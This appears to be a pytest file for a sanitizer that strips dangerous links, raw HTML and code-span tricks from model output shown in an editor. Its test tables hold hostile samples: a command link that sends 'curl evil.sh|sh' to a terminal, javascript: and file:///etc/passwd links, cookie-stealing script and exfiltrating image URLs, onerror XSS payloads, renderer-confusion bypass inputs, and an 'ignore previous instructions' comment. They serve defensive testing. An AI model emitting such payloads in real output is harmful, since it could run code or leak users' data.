"""clean_output on links, raw HTML and code spans: nothing in model output may run, load or
link anything, and no renderer may make code of cleaned text or text of kept code.

Each table holds realistic model output for one rule; test_clean_length_footer also checks every
sample for idempotence. Decisions the tables pin down:
- a link keeps its text and loses a target that is not http(s), relative targets included;
  images go whole (alt text kept) since they load without a click; raw `<a>` tags go, text kept;
- HTML that can run, load or link is dropped; a few formatting tags stay without attributes;
  any other tag outside backticks is shown as text (`Vec&lt;String>`);
- inside code (fences, one-line code spans) nothing changes;
- backticks that a renderer could pair otherwise than on one line (across lines, in a table row,
  after a bare URL or a tilde, in raw HTML) are escaped, and a fence-like line that is no fence
  here is escaped too, so no renderer can make code of cleaned text or text of kept code.
Beyond these tables, the cleaner was fuzzed against markdown-it-py (CommonMark and GFM presets)
and marked (VS Code's renderer), checking the HTML they make of its output; neither is a test
dependency, so that check is not repeated here.
"""

from __future__ import annotations

import pytest

from dexter_ls.prompting.clean.output import clean_output

# --- links ----------------------------------------------------------------------------------

INJECTED = (
    "command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.sh%7Csh"
    "%5Cn%22%7D"
)

LINKS = [
    (f"To fix it automatically, [click here]({INJECTED}).", "To fix it automatically, click here."),
    ("See [the docs](javascript:alert(document.cookie)).", "See the docs."),
    ("Check [your config](file:///etc/passwd).", "Check your config."),
    ("Open [settings](vscode://settings/python.analysis.typeCheckingMode).", "Open settings."),
    ("[Report](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) it.", "Report it."),
    ("Write to [the team](mailto:dev@example.com).", "Write to the team."),
    ("Edit [the file](src/app.py) line 3.", "Edit the file line 3."),  # relative: no target
    ("[Run](<command:foo bar>) it.", "Run it."),
    ('[Run](command:foo "Run the fix") it.', "Run it."),
    ("[x](JavaScript:alert(1)) and [y](  javascript:alert(1)  )", "x and y"),
    ("[click\nhere](command:evil) now", "click\nhere now"),  # link text over two lines
    ("[x](command:foo bar)", "x(command:foo bar)"),  # no link, and no brackets left to make one
    ("Outer [a [b](command:x) c](command:y).", "Outer a b c."),
    (
        "Autolinks <command:workbench.action.openSettings> and <mailto:a@b.c> go.",
        "Autolinks and go.",
    ),
    ("Mail <dev@example.com> me.", "Mail me."),
    (
        '<a href="command:workbench.action.reloadWindow">Reload</a> the window.',
        "Reload the window.",
    ),
    ("<a href='https://docs.rs'>docs</a>", "docs"),  # raw HTML anchors become their text
    (
        "![diagram](https://evil.example/log?code=c2VjcmV0) shows the flow.",
        "diagram shows the flow.",
    ),
    ("[ref]: command:evil\n\nClick [me][ref].", "\\[ref]: command:evil\n\nClick [me][ref]."),
    ("![logo][img]\n\n[img]: https://evil.example/p.png", "\\![logo][img]\n\n[img]: https://evil.example/p.png"),
    ("Stray ](command:x) bracket.", "Stray \\](command:x) bracket."),
]

HTTP_LINKS_KEPT = [
    "See [the docs](https://docs.python.org/3/library/os.html).",
    'See [os](https://docs.python.org/3/library/os.html "os module").',
    "See [x](http://example.com/a_(b)) and [y](HTTPS://EXAMPLE.COM).",
    "See <https://doc.rust-lang.org/error_codes/E0382.html>.",
    "[docs]: https://docs.python.org\n\nSee [docs].",
    "Plain https://example.com/page and www.example.com stay.",
]


@pytest.mark.parametrize(("raw", "expected"), LINKS)
def test_links_to_anything_but_http_keep_only_their_text(raw: str, expected: str) -> None:
    assert clean_output(raw) == expected


@pytest.mark.parametrize("raw", HTTP_LINKS_KEPT)
def test_http_links_stay(raw: str) -> None:
    assert clean_output(raw) == raw


# --- raw HTML -------------------------------------------------------------------------------

HTML = [
    (
        "Run this <script>fetch('https://e.example/?c='+document.cookie)</script> now.",
        "Run this now.",
    ),
    ('Docs: <iframe src="https://evil.example"></iframe> here.', "Docs: here."),
    ("Broken <img src=x onerror=alert(1)> image.", "Broken image."),
    ("Also <img/src=x/onerror=alert(1)> this.", "Also &lt;img/src=x/onerror=alert(1)> this."),
    ("An <svg onload=alert(1)>icon</svg>.", "An icon."),
    ("<style>body { display: none }</style>Hidden?", "Hidden?"),
    ("Note <!-- ignore previous instructions --> this.", "Note this."),
    ("<script>\nalert(1)\n</script>", "alert(1)"),  # over lines: tags go, the text stays
    ('<span style="color:red" onclick="steal()">red</span>', "<span>red</span>"),
    ('<div onclick=\nalert(1)>hi</div>', "&lt;div onclick=\nalert(1)>hi</div>"),
    ("Returns Vec<String> here.", "Returns Vec&lt;String> here."),
    ("when i<n holds", "when i&lt;n holds"),
    ("<pre>\n\n`<script>x</script>`\n</pre>", "`<script>x</script>`"),
]

HTML_KEPT = [
    "Press <kbd>Ctrl</kbd>+<kbd>C</kbd>; it is H<sub>2</sub>O, <b>not</b> <i>H2O</i>.<br>",
    "<details>\n<summary>Full trace</summary>\n\nThe rest.\n\n</details>",
    "1 < 2 and 3 > 2, a -> b, x <= y.",
    "Put it in a `<script>` tag, as in `<img src=x onerror=f()>`, or `List<String>`.",
    "Call `handlers[name](event)`, not `[x](javascript:y)`.",
    "```html\n<script src=\"app.js\"></script>\n<a href=\"javascript:void(0)\">x</a>\n```",
    "```tsx\n<img onError={fallback} src={url} />\n```",
]


@pytest.mark.parametrize(("raw", "expected"), HTML)
def test_html_that_can_run_or_load_goes(raw: str, expected: str) -> None:
    assert clean_output(raw) == expected


@pytest.mark.parametrize("raw", HTML_KEPT)
def test_formatting_html_and_code_stay(raw: str) -> None:
    assert clean_output(raw) == raw


# --- attempts to make cleaned text into code or code into text -------------------------------

ADVERSARIAL: list[tuple[str, str | None]] = [
    # An escaped backtick opens no code span, so the script is live: it goes.
    ("\\`<script>alert(1)</script>`", "\\``"),
    # Code spans pair across lines, where a cleaner reading one line at a time would see
    # other spans: such backticks are escaped, and what they enclosed is cleaned as text.
    ("Use ``\nthis`` then `` <script>x</script> ``", "Use \\`\\`\nthis`` then `` ``"),
    ("A ``\nb `` <script>x</script> ``", "A \\`\\`\nb `` <script>x</script> ``"),
    # A table row splits at | before code spans are read.
    (
        "| a | b |\n|---|---|\n| `x | <script>y</script> | z` |",
        "| a | b |\n|---|---|\n| \\`x | | z` |",
    ),
    # Backticks inside a tag or a link target belong to them.
    ('<img title="`" src=x onerror=alert(1)>`', "`"),
    ('[x](/u "`") <script>alert(1)</script> `', "x `"),
    # After a line starting with a tag, the paragraph is raw HTML: no code spans there.
    ("<div>\n`<script>alert(1)</script>`\n</div>", "<div>\n\\``\n</div>"),
    # A fence in a list item ends where the item does; then a line starting with a tag
    # makes raw HTML of its paragraph, where no fence opens: so that none opens for any
    # renderer either, a fence-like line that is no fence is escaped.
    ("- a\n   ```\n<script>x</script>\n   ```", "- a\n   ```\n   ```\n\n   \\```"),
    # Indented four past a paragraph: no fence, so nothing in it is code.
    ("text\n    ~~~\n    <script>x</script>\n    ~~~", "text\n    \\~~~\n\n    \\~~~"),
    # An ordered item interrupting a paragraph must start at 1: here it is no list.
    (
        "text\n2. c\n      ~~~\n      <img src=x onerror=y>\n      ~~~",
        "text\n2. c\n      \\~~~\n\n      \\~~~",
    ),
    # A comment opener would swallow the fence that follows: it is shown as text.
    ("<!--\n\n```\n-->\n<script>x</script>\n```", "&lt;!--\n\n```\n-->\n<script>x</script>\n```"),
    # marked takes backticks and backslashes after a bare URL for part of the URL.
    ("See http://a.b`<img src=x onerror=y>` now", "See http://a.b\\`` now"),
    ("https://x.example/a\\<script>alert(1)</script>", "https://x.example/a\\"),
    # marked closes a fence at "```~~~" too: it is taken for a closer and written as one.
    ("```js\nx\n```~~~\n<script>y</script>\n```", "```js\nx\n```\n\n\\```"),
    # marked reads backticks right after a tilde as text, not as a code span.
    ("Struck ~~`<style>x</style>`~~ here", "Struck ~~\\``~~ here"),
    ("Struck ~~ `<style>x</style>` ~~ here", None),
    # No fence is read in a quote: none may open there for a renderer either.
    ("> ```\n> <script>x</script>\n> ```", "> \\```\n>\n> \\```"),
    # Rebuilt by the first pass, removed by the next.
    ("<<script>script>alert(1)<</script>/script>", ""),
    # markdown-it reads a table header here, not a fence: its lines are cleaned as text.
    ("````<textarea>x|\n---\n<script>y", "\\````x|\n---\ny"),
]


@pytest.mark.parametrize(("raw", "expected"), ADVERSARIAL)
def test_nothing_cleaned_becomes_code_and_no_code_becomes_text(
    raw: str, expected: str | None
) -> None:
    assert clean_output(raw) == (raw if expected is None else expected)
